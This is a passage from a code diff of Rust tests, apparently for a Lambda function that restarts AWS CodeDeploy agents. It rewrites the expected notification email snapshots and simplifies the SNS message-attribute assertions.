+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 1 busy.
 
     WARNING busy:
       i-00000000000000001 (i-00000000000000001.us-east-1.compute.internal): deployment d-RUNNING01 of the group is running
       Do: nothing, if this function also hears of that deployment's success: it brings the restart; else repeat by hand.
-    "#);
+    ");
 }
 
 #[tokio::test(start_paused = true)]
@@ -705,12 +804,11 @@ async fn the_mail_when_everybody_is_fine() {
         told.counts(),
         &json!({"already-restarted": 1, "below-threshold": 1, "restarted": 2, "skipped": 1, "started": 1})
     );
-    insta::assert_snapshot!(story.body("email"), @r#"
-    OK: none of 6 CodeDeploy agents needs attention: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5: 1 already-restarted, 1 below-threshold, 2 restarted, 1 skipped, 1 started
-    "#);
+    insta::assert_snapshot!(story.body("email"), @"
+    OK: all 6 agents fine: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
+    In all: 1 already-restarted, 1 below-threshold, 2 restarted, 1 skipped, 1 started.
+    ");
 }
 
 #[tokio::test(start_paused = true)]
@@ -726,10 +824,8 @@ async fn the_mail_about_a_problem() {
     });
     story.run().await;
     insta::assert_snapshot!(story.body("email"), @r#"
-    WARNING: not every CodeDeploy agent could be treated: pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f
-    Account 123456789012, region us-east-1, 2026-02-17T09:14:05Z
-
-    my-application/my-deployment-group in us-east-1, deployment d-EXAMPLEE5
+    WARNING: agents not restarted: my-application/my-deployment-group (123456789012 us-east-1)
+    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
 
     Problem in step fleet: AccessDeniedException: codedeploy:GetDeploymentGroup (deployment group my-application/my-deployment-group): User is not authorized to perform this action
       Do: allow codedeploy:GetDeploymentGroup in the function's role, for deployment group my-application/my-deployment-group.
@@ -748,11 +844,9 @@ async fn subscriptions_can_filter_on_the_group_that_was_ordered_though_it_was_no
     });
     story.event(&request(json!({}))).await;
     let attributes = story.message().attributes;
-    let groups = &attributes["deploymentGroup"];
-    assert_eq!(groups["Type"], "String.Array");
-    assert_eq!(groups["Value"], json!([sim::DEPLOYMENT_GROUP]).to_string());
-    let applications = &attributes["application"];
-    assert_eq!(applications["Value"], json!([sim::APPLICATION]).to_string());
+    let value = |name: &str| attributes[name]["Value"].clone();
+    assert_eq!(value("deploymentGroup"), sim::DEPLOYMENT_GROUP);
+    assert_eq!(value("application"), sim::APPLICATION);
 }
 
 #[tokio::test(start_paused = true)]
@@ -763,9 +857,10 @@ async fn a_problem_before_any_group_is_read_still_carries_the_group_to_filter_on
     let told = story.event(&foreign).await;
     assert_eq!(told.answer["problem"]["code"], "OtherAccount");
     let attributes = json!(story.message().attributes);
-    assert_eq!(attributes["application"]["Value"], r#"["my-application"]"#);
+    assert_eq!(attributes["account"]["Value"], "210987654321");
+    assert_eq!(attributes["application"]["Value"], "my-application");
     assert_eq!(
         attributes["deploymentGroup"]["Value"],
-        r#"["my-deployment-group"]"#
+        "my-deployment-group"
     );
 }
